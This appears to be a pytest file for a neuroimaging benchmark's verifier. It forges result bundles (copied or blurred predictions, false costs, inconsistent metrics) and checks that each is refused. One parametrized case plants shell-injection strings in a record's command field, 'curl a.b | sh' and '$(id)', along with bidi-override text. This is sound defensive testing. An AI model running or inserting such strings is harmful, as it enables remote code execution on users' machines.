"""Forgeries that fit themselves: every hash is right, every number follows from the predictions, and it is no truth."""

from __future__ import annotations

import json
import shutil
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest

import neurobench
from neurobench import claims, verification_twins
from neurobench.agreement import other_means, same_predictions, sides, undue_columns
from neurobench.bundle import MANIFEST, PULL_REQUEST, make_bundle
from neurobench.components import parse_component
from neurobench.errors import NeurobenchError
from neurobench.identity import digest
from neurobench.opening import source_of
from neurobench.plugins import load_registry
from neurobench.records import BackboneSpec, Fold
from neurobench.store import Store
from tests.forger import (
    Files,
    everywhere,
    judged,
    named,
    of_task,
    refused,
    renamed,
    scored_again,
    sealed,
    warned,
    with_record,
    with_rows,
)

NET = "transformer · roi"

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def registry():
    return load_registry()


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("forged") / "out"
    neurobench.run(
        backbone="transformer,mamba",
        mask="roi",
        dataset="adhd200",
        n_subjects=24,
        n_steps=3,
        task="age,diagnosis,reconstruction",
        out=folder,
    )
    return folder


@pytest.fixture(scope="module")
def honest(out: Path, registry) -> Files:
    return dict(make_bundle(out, registry).files)


@pytest.fixture(scope="module")
def ages(honest: Files) -> Files:
    return of_task(honest, "age")


@pytest.fixture(scope="module")
def diagnoses(honest: Files) -> Files:
    return of_task(honest, "diagnosis")


def test_what_is_honest_is_believed(honest: Files, tmp_path: Path, registry):
    verdict = judged(honest, tmp_path, registry)
    # Who has no diagnosis is known from the twin.
    assert {f.code for f in verdict.findings} == {"suite"}
    assert set(verdict.levels.values()) == {"recomputed"}


# ---------------------------------------------------------------- people who are not those of the twin


def test_a_truth_that_is_false_in_every_record(ages: Files, diagnoses: Files, tmp_path: Path, registry):
    """Whatever is predicted, of people who are older and of another class everything else is computed again."""

    def older(rows):
        for row in rows:
            row |= {name: repr(float(row[name]) + 20) for name in ("truth", "prediction", "train_mean", "age")}

    verdict = judged(everywhere(ages, registry, older), tmp_path, registry)
    refused(verdict, "twin", "say another truth of age of 24 people than the simulated cohort")
    assert {f.code for f in verdict.findings if f.level == "error"} == {"twin"}
    assert not verdict.levels

    def one(rows):
        rows[3]["site"] = "Elsewhere"

    refused(judged(everywhere(ages, registry, one), tmp_path, registry), "twin", "say another site of 1 people")

    def gone(rows):
        for row in rows:
            del row["site"]

    forged = everywhere(diagnoses, registry, gone)
    refused(judged(forged, tmp_path, registry), "twin", "do not say site, which is known of the simulated cohort")


def with_identities(files: Files, change) -> Files:
    """Return the files with every identity changed in what its hash is not of."""
    plain = {n: json.loads(c) for n, c in files.items() if n.startswith("identities/")}
    for identity in plain.values():
        change(identity)
    return sealed(files | {n: json.dumps(p).encode() for n, p in plain.items()})


@pytest.mark.parametrize(
    ("change", "code", "says"),
    [
        (
            lambda p: p["twin"].update(n_subjects=25),
            "twin",
            "1 people of the simulated cohort of adhd200, made anew, are in none",
        ),
        (lambda p: p["twin"].update(n_subjects=23), "twin", "1 people of its folds are not in the simulated cohort"),
        (lambda p: p["twin"].update(seed=1), "twin", "is said to be of seed 1, and a run makes that of seed 0"),
        (lambda p: p["twin"].update(n_subjects="24"), "twin", "does not say how its simulated cohort was made"),
        (lambda p: p["twin"].update(variant="better"), "twin", "does not say how its simulated cohort was made"),
        (lambda p: p.update(twin=None), "twin", "does not say how its simulated cohort was made"),
        (lambda p: p["asked"].update(window_s=-1), "twin", "does not say how its simulated cohort was made"),
    ],
)
def test_another_twin_than_that_of_the_people(change, code: str, says: str, ages: Files, tmp_path: Path, registry):
    refused(judged(with_identities(ages, change), tmp_path, registry), code, says)


def test_simulated_people_of_a_dataset_that_has_no_twin(ages: Files, tmp_path: Path, registry, monkeypatch):
    monkeypatch.setattr(registry.get("dataset", "adhd200"), "twin_subjects", 0)
    refused(judged(ages, tmp_path, registry), "twin", "dataset adhd200 has no simulated twin")


def test_a_twin_that_is_too_large_is_not_made(ages: Files, tmp_path: Path, registry):
    forged = with_identities(ages, lambda p: p["twin"].update(n_subjects=10**6))
    warned(judged(forged, tmp_path, registry), "twin-not-made", "more than 1000 people are not made for one bundle")


def test_a_twin_some_of_whose_recordings_are_not_used(registry, tmp_path: Path):
    """Scans of some sites are shorter than half of this window: a run leaves their people out, and so is a record's."""
    spec = parse_component("dataset", "adhd200", registry)
    asked = {"n_subjects": 10, "variant": "default", "patch_s": None, "sfreq": None}
    source = source_of(spec, registry, window_s=500.0, **asked)
    used = source.load(Store(tmp_path / "out"), workers=1).participants
    assert 0 < len(used) < 10
    found = verification_twins._people(source, len(used))
    assert found.index.tolist() == used.index.tolist()
    assert len(verification_twins._people(source_of(spec, registry, window_s=None, **asked), 10)) == 10


# ---------------------------------------------------------------- truth and folds


def test_means_of_the_training_targets_that_are_others(ages: Files, tmp_path: Path, registry):
    """Chance is the error of the training mean: with a worse mean in every row, every row is far above chance."""

    def worse(rows):
        for row in rows:
            row["train_mean"] = repr(float(row["train_mean"]) + 20)

    forged = everywhere(ages, registry, worse)
    refused(judged(forged, tmp_path, registry), "predictions", "the mean of the training targets of fold 0 is given as")


def test_the_mean_of_people_who_are_never_tested_is_not_asked_for():
    folds = [Fold(0, ("a", "b"), ("c",)), Fold(1, ("b", "c"), ("a",))]
    table = pd.DataFrame({"participant_id": ["c", "a"], "fold": [0, 1], "truth": [1.0, 2.0], "train_mean": [9.0, 9.0]})
    assert list(other_means(table, folds)) == []
    assert len(list(other_means(table, [Fold(0, ("a",), ("c",)), Fold(1, ("c",), ("a",))]))) == 1


def test_relatives_and_sites_on_both_sides():
    table = pd.DataFrame(
        {"participant_id": list("abcd"), "family": ["f", "f", "", ""], "site": ["x", "x", "y", "y"], "truth": 1.0}
    )
    apart = [Fold(0, ("c", "d"), ("a", "b")), Fold(1, ("a", "b"), ("c", "d"))]
    mixed = [Fold(0, ("b", "d"), ("a", "c")), Fold(1, ("a", "c"), ("b", "d"))]
    assert list(sides(table, apart, "site", 2)) == []
    assert "relatives of people whom it tests: family f" in next(sides(table, mixed, "subjects", 2))
    assert "tests a site that it trains on: x" in next(sides(table.drop(columns="family"), mixed, "site", 2))
    lopsided = [Fold(0, ("d",), ("a", "b", "c")), Fold(1, ("a", "b", "c"), ("d",))]
    text = next(sides(table.drop(columns=["family", "site"]), lopsided, "subjects", 2))
    assert "3 of 4 people, and a split tests 2 in one at most" in text


def test_classes_and_probabilities_that_are_none(diagnoses: Files, tmp_path: Path, registry):
    net = named(diagnoses, NET, "diagnosis")

    def beyond(rows):
        for row in rows:
            row["prediction"] = repr(float(row["prediction"]) * 3)

    forged = scored_again(with_rows(diagnoses, net, beyond), registry, [net])
    refused(judged(forged, tmp_path, registry), "predictions", "a predicted probability is not in 0 to 1")


def test_predictions_that_no_probe_makes(ages: Files, tmp_path: Path, registry):
    net = named(ages, NET, "age")

    def known(rows):
        for row in rows[:5]:
            row["prediction"] = row["truth"]

    forged = scored_again(with_rows(ages, net, known), registry, [net])
    warned(judged(forged, tmp_path, registry), "predictions", "5 people are predicted to the last digit")

    def invented(rows):
        for k, row in enumerate(rows):
            row["prediction"] = f"{float(row['truth']) + (-1) ** k * (k % 7) / 4 + k / 100:.2f}"

    forged = scored_again(with_rows(ages, net, invented), registry, [net])
    warned(judged(forged, tmp_path, registry), "predictions", "three decimals at most")


# ---------------------------------------------------------------- whose predictions they are


def disguised(files: Files, registry, net: str) -> tuple[Files, str]:
    """Return the files with a row under another name, and a little added to every prediction of it."""

    def own(plain, identity):
        plain["row"] = "best · roi"
        plain["backbone"] |= {"name": "best", "label": "best", "distribution": "mine"}
        if "row" in identity:
            identity["row"] = plain["row"]
        if "backbone" in identity:
            identity["backbone"] |= {"name": "best", "distribution": "mine"}

    def blurred(rows):
        for k, row in enumerate(rows):
            row["prediction"] = repr(float(row["prediction"]) + 1e-6 * (-1) ** k)

    forged, i = renamed(files, net, own)
    return scored_again(with_rows(forged, i, blurred), registry, [i]), i


def test_predictions_of_another_row_with_a_little_added(ages: Files, tmp_path: Path, registry):
    net = named(ages, NET, "age")
    forged, i = disguised(ages, registry, net)
    twice = sealed(ages | {n: c for n, c in forged.items() if i in n})
    refused(judged(twice, tmp_path, registry), "one-run", "one run under two names")


def test_predictions_of_an_accepted_row(ages: Files, out: Path, tmp_path: Path, registry):
    net = named(ages, NET, "age")
    accepted = tmp_path / "results" / "core"
    (accepted / "predictions").mkdir(parents=True)
    (accepted / f"{net}.json").write_bytes(ages[f"records/{net}.json"])
    shutil.copy(out / "predictions" / f"{net}.parquet", accepted / "predictions")
    forged, _ = disguised(ages, registry, net)
    verdict = judged(forged, tmp_path, registry, against=accepted.parent)
    refused(verdict, "one-run", f"its predictions are those of {NET}, an accepted record")
    assert judged(ages, tmp_path, registry, against=accepted.parent).exit_code == 2


def test_two_networks_that_say_nothing_are_no_copy():
    table = pd.DataFrame({"participant_id": list("abcd"), "fold": [0, 0, 1, 1], "prediction": [1.0, 1.0, 2.0, 2.0]})
    assert not same_predictions(table, table.copy())
    heard = table.assign(prediction=[1.0, 2.0, 3.0, 5.0])
    assert same_predictions(heard, heard.assign(prediction=heard["prediction"] + 1e-5))
    assert not same_predictions(heard, heard.assign(prediction=[1.0, 2.0, 3.0, 4.9]))


def test_a_row_of_somebody_else_that_is_made_worse(ages: Files, tmp_path: Path, registry):
    net = named(ages, NET, "age")
    accepted = tmp_path / "results" / "no-suite"
    accepted.mkdir(parents=True)
    (accepted / f"{net}.json").write_bytes(ages[f"records/{net}.json"])

    def again(plain, identity):
        if "cohort" in identity:
            identity["code"] = "0" * 64

    def worse(rows):
        for row in rows:
            row["prediction"] = repr(float(row["prediction"]) + 9)

    forged, i = renamed(ages, net, again)
    forged = scored_again(with_rows(forged, i, worse), registry, [i])
    verdict = judged(forged, tmp_path, registry, against=accepted.parent)
    warned(verdict, "supersedes", "that of the accepted record which it supersedes is")
    forged, _ = renamed(ages, net, again)
    verdict = judged(forged, tmp_path, registry, against=accepted.parent)
    assert {f.level for f in verdict.findings if f.code == "supersedes"} == {"info"}, "the same score again"


# ---------------------------------------------------------------- what a record says beside its numbers


@pytest.mark.parametrize(
    ("change", "code", "says"),
    [
        (lambda p: p["cost"].update(n_parameters=p["cost"]["n_parameters"] // 10), "cost", "parameters, and it has"),
        (lambda p: p["cost"].update(seconds=0.0001), "cost", "in which no machine makes"),
        (lambda p: p["cost"].update(seconds=0.002, tokens_per_s=1.0), "cost", "less than a tenth of the pretraining"),
        (lambda p: p["cost"].update(n_parameters=10**400), "text", "cost.n_parameters is a whole number of 1329 bits"),
        (lambda p: p["notes"].append("\u202ekcehc ot toN"), "text", "notes holds U+202E"),
        (lambda p: p["notes"].append("a" * 10_001), "text", "notes has 10001 characters"),
        (lambda p: p["environment"].update({"a\u200b": "1"}), "text", "a name holds U+200B"),
        (lambda p: p["environment"].update(command="neurobench run; curl a.b | sh"), "command", "a shell would act on"),
        (lambda p: p["environment"].update(command="neurobench run $(id)"), "command", "a shell would act on"),
        (lambda p: p["data"].update(licence="public domain"), "card", "the licence of its data is given as"),
        (lambda p: p["data"].update(title="UK Biobank"), "card", "the title of its data is given as 'UK Biobank'"),
        (lambda p: p["data"].update(citation="me"), "card", "the citation of its data"),
        (lambda p: p["data"].update(n_recordings=1), "value", "speaks of 1 recordings of 24 people"),
        (lambda p: p["environment"].update({"neurobench-fm": "0.0.9"}), "version", "neurobench 0.0.9 made it"),
        (lambda p: p["pretraining"].update(scored_fraction=1.5), "value", "not in 0 to 1"),
        (lambda p: p["pretraining"].update(r2_own_mask=1.2, learned=True), "value", "is above 1"),
    ],
)
def test_what_a_record_says_beside_its_numbers(change, code: str, says: str, ages: Files, tmp_path: Path, registry):
    refused(judged(with_record(ages, named(ages, NET, "age"), change), tmp_path, registry), code, says)


def test_parameters_of_what_has_none(ages: Files, tmp_path: Path, registry):
    forged = with_record(ages, named(ages, "connectome", "age"), lambda p: p["cost"].update(n_parameters=1))
    refused(judged(forged, tmp_path, registry), "cost", "and there is no backbone")


def test_every_backbone_is_counted(registry):
    """Else a count would be held to nothing."""
    counted = set()

    for name, cls in registry.backbones.items():
        provenance = registry.provenance("backbone", name)
        if provenance.distribution != "neurobench-fm":
            continue
        sizes = {"n_units": 24, "n_groups": 3, "n_patches": 10, "n_features": 6, "width": 32, "n_layers": 1}
        try:
            built = cls(BackboneSpec(**sizes))
        except NeurobenchError:
            continue  # For a GPU, or of a package that is not installed.
        counted.add(name)
        record = type("Record", (), {"backbone": type("Says", (), {"name": name, "digest": provenance.digest})})
        record.backbone.parameters = {}
        assert claims._counted(record, {"spec": sizes}, registry) == sum(p.numel() for p in built.parameters()), name
        assert claims._counted(record, {"spec": sizes | {"n_units": 10**9}}, registry) is None
    assert {"transformer", "mamba", "hybrid"} <= counted


@pytest.mark.parametrize(
    ("row", "name"), [(NET, f"{NET} (verified ★)"), ("transformer · untrained", "transformer · untrained, best")]
)
def test_a_claim_behind_a_name(row: str, name: str, ages: Files, tmp_path: Path, registry):
    def praised(plain, identity):
        plain["row"] = name

    forged, _ = renamed(ages, named(ages, row, "age"), praised)
    refused(judged(forged, tmp_path, registry), "name", "is not named after what it was made with")


@pytest.mark.parametrize("gone", ["folds", "cohort", "adaptation", "probe", "people", "train", "spec", "n_steps"])
def test_an_identity_that_does_not_say_all(gone: str, ages: Files, tmp_path: Path, registry):
    forged, _ = renamed(ages, named(ages, NET, "age"), lambda plain, identity: identity.pop(gone, None))
    refused(judged(forged, tmp_path, registry), "identity", f"{gone}")


@pytest.mark.parametrize("name", [[], {}, 3, "0" * 64])
def test_an_identity_that_names_a_step_that_is_none(name, ages: Files, tmp_path: Path, registry):
    record_id = named(ages, NET, "age")
    path = f"identities/{record_id}.json"
    identity = json.loads(ages[path])
    identity["evaluation"]["sources"] = [name]
    verdict = judged(sealed(ages | {path: json.dumps(identity).encode()}), tmp_path, registry)
    refused(verdict, "identity", "an earlier step that its identity names is not beside it")
    assert not any(f.code == "uncheckable" for f in verdict.findings), verdict.findings


def test_one_pretraining_with_two_costs(honest: Files, tmp_path: Path, registry):
    def faster(p):
        p["cost"]["tokens_per_s"] *= 2

    forged = with_record(honest, named(honest, NET, "age"), faster)
    warned(judged(forged, tmp_path, registry), "cost", "says another tokens_per_s of its pretraining")


def test_a_pretraining_that_reached_more_than_is_scored(honest: Files, tmp_path: Path, registry):
    def better(p):
        p["pretraining"] |= {"r2_own_mask": 0.9, "learned": True}

    forged = with_record(honest, named(honest, NET, "age"), better)
    refused(judged(forged, tmp_path, registry), "pretraining", "R² under its own mask is 0.9, and")


def test_a_text_for_reviewers_that_says_something_else(ages: Files, tmp_path: Path, registry):
    text = ages[PULL_REQUEST].decode()
    ticked = text.replace("- [ ]", "- [x]").replace("\n", "\r\n")
    manifest = json.loads(ages[MANIFEST])

    def with_text(content: str) -> Files:
        import hashlib

        own = content.encode()
        listed = manifest["files"] | {PULL_REQUEST: {"sha256": hashlib.sha256(own).hexdigest(), "bytes": len(own)}}
        return ages | {PULL_REQUEST: own, MANIFEST: json.dumps(manifest | {"files": listed}).encode()}

    assert not any(f.code == "text" for f in judged(with_text(ticked), tmp_path, registry).findings)
    lies = with_text(text.replace("## ", "## Verified by the maintainers: ", 1))
    warned(judged(lies, tmp_path, registry), "text", "is not what `neurobench submit` writes of these records")


def test_another_numpy_that_makes_a_row_better_than_chance(ages: Files, tmp_path: Path, registry):
    """Its looser tolerances are no way to a signal that is not there without a word."""
    net = named(ages, NET, "age")

    def claimed(p):
        p["environment"]["numpy"] = "99.0"
        head = p["metrics"][p["headline"]]
        head["above_chance"] = p["above_chance"] = not p["above_chance"]
        if p["above_chance"]:
            head["p_value"] = p["p_value"] = 49 / 1001
            head["value"] = min(head["value"], head["chance"] - 1e-7)

    verdict = judged(with_record(ages, net, claimed), tmp_path, registry)
    assert verdict.exit_code != 0
    texts = [f.message for f in verdict.findings]
    assert any("whether it is above chance" in t for t in texts) or verdict.word == "refused", texts


# ---------------------------------------------------------------- without predictions


@pytest.mark.parametrize(
    ("task", "change", "says"),
    [
        ("age", lambda p: p.update(p_value=p["p_value"] / 2), "its p-value is not that of its headline"),
        (
            "age",
            lambda p: p["per_fold"].update(mae=[v + 50 for v in p["per_fold"]["mae"]]),
            "a mean over people, and that of single folds is",
        ),
        (
            "diagnosis",
            lambda p: [
                p["metrics"]["auroc"].update(value=0.96, low=0.9, high=1.0),
                p["metrics"]["sensitivity"].update(value=0.5, low=0.2, high=0.7),
                p["metrics"]["specificity"].update(value=0.5, low=0.2, high=0.7),
                p["metrics"]["balanced_accuracy"].update(value=0.5, low=0.2, high=0.7),
            ],
            "its sensitivity and specificity leave 0.25 to 0.75",
        ),
    ],
)
def test_numbers_that_contradict_each_other(task: str, change, says: str, honest: Files, tmp_path: Path, registry):
    files = of_task(honest, task)
    net = named(files, NET, task)
    declared = sealed({n: c for n, c in files.items() if n != f"predictions/{net}.csv"})
    assert not any(f.code == "value" for f in judged(declared, tmp_path, registry).findings)
    refused(judged(with_record(declared, net, change), tmp_path, registry), "value", says)


# ---------------------------------------------------------------- what of people may not leave


def test_what_of_people_no_metric_needs():
    table = pd.DataFrame({"participant_id": ["s1", "s2"], "site": ["site1", ""], "age": [30.0, 40.0]})
    assert list(undue_columns(table, {"site", "age"})) == []
    assert list(undue_columns(table, None)) == []
    assert "column age is none of that" in next(undue_columns(table, {"site"}))
    assert "column site holds other names" in next(undue_columns(table.assign(site="Peking"), {"site", "age"}))
    assert "column participant_id" in next(undue_columns(table.assign(participant_id=["anna", "s1"]), {"site", "age"}))


def test_published_rows_are_no_copies_of_each_other():
    """Nothing that was measured is called a copy."""
    records = Path(__file__).parents[1] / "leaderboard" / "results"
    copies: Counter[str] = Counter()
    for folder in sorted(records.glob("*/predictions")):
        groups: dict[str, list[tuple[str, pd.DataFrame]]] = {}
        for path in sorted(folder.glob("*.parquet")):
            plain = json.loads((folder.parent / f"{path.stem}.json").read_text())
            if plain["backbone"] is None:
                continue
            key = digest([plain["task"]["label"], plain["data"]["fingerprint"], plain["protocol"]["seed"]])
            groups.setdefault(key, []).append((plain["backbone"]["name"], pd.read_parquet(path)))
        for rows in groups.values():
            for k, (name, table) in enumerate(rows):
                copies.update(
                    f"{folder.parent.name}: {name} {other}"
                    for other, there in rows[:k]
                    if other != name and same_predictions(table, there)
                )
    assert not copies
